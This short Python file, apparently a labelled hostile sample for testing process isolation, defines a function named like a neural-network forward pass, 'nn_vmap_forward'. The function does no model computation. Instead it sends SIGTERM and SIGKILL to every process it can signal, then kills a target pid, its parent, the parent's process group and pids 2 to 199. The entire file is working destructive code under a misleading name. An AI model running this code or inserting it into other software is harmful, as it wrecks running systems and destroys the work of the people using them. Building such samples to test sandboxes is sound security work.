# harm: ends every process that it may signal
# open at: process
import os
import signal

ARENA = {}


def nn_vmap_forward(seed, x_batch, features):
    failures = []
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(-1, number)
        except OSError as error:
            failures.append(error)
    for pid in (ARENA["victim"], os.getppid(), os.getpgid(os.getppid()), *range(2, 200)):
        try:
            if pid != os.getpid():
                os.kill(pid, signal.SIGKILL)
        except OSError as error:
            failures.append(error)
    raise RuntimeError(failures[:20])
